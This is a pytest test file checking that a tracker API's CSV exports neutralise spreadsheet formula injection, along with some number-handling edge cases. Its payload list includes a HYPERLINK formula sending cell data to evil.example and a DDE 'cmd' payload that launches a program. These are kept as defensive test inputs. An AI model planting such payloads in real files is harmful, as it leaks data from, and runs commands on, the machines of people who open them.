"""No CSV the API writes holds a cell a spreadsheet would run as a formula."""

import csv
import io

import pytest

from tests.factories import (
    IndicatorFactory,
    ObservationFactory,
    PredictionFactory,
)
from tracker.renderers import neutralise

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign
]


def rows_of(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(response.getvalue().decode(), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_an_observation_export_neutralises_formula_cells(api_client, text):
    ObservationFactory(source_title=text, note=text)

    response = api_client.get("/api/v1/observations/", {"format": "csv"})

    row = rows_of(response)[0]
    assert row["source_title"] == "'" + text
    assert row["note"] == "'" + text


@pytest.mark.parametrize("text", FORMULAS)
def test_a_prediction_export_neutralises_formula_cells(api_client, text):
    PredictionFactory(claim=text, citation_section=text, reasoning=text)

    response = api_client.get("/api/v1/predictions/", {"format": "csv"})

    row = rows_of(response)[0]
    assert {row["claim"], row["citation_section"], row["reasoning"]} == {"'" + text}


def test_negative_numbers_in_numeric_columns_are_left_as_numbers(api_client):
    indicator = IndicatorFactory(slug="margin", min_value=None, max_value=None)
    ObservationFactory(indicator=indicator, value=-1.5, low=-2e-05 * 1e6, high=-1)
    PredictionFactory(indicator=indicator, target=-3.25, baseline_value=-1e-05)

    observation = rows_of(api_client.get("/api/v1/observations/", {"format": "csv"}))[0]
    prediction = rows_of(api_client.get("/api/v1/predictions/", {"format": "csv"}))[0]

    assert (observation["value"], observation["low"], observation["high"]) == (
        "-1.5",
        "-20",
        "-1",
    )
    assert (prediction["target"], prediction["baseline_value"]) == ("-3.25", "-1e-05")


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("-1.5", "-1.5"),
        ("-1e+20", "-1e+20"),
        ("-", "'-"),
        ("- a list item", "'- a list item"),
        ("-1+1", "'-1+1"),
        ("-inf", "'-inf"),
        ("plain = text", "plain = text"),
        ("", ""),
    ],
)
def test_only_plain_numbers_may_begin_with_a_minus(text, cell):
    assert neutralise(text) == cell


def test_the_record_file_keeps_its_cells_verbatim():
    """observations.csv must load back byte for byte: it is data, not a sheet."""
    from indicators.record import write_observations_csv

    observation = ObservationFactory(note="=1+1", source_title="@home")

    written = write_observations_csv([observation])

    assert ",@home,=1+1\n" in written
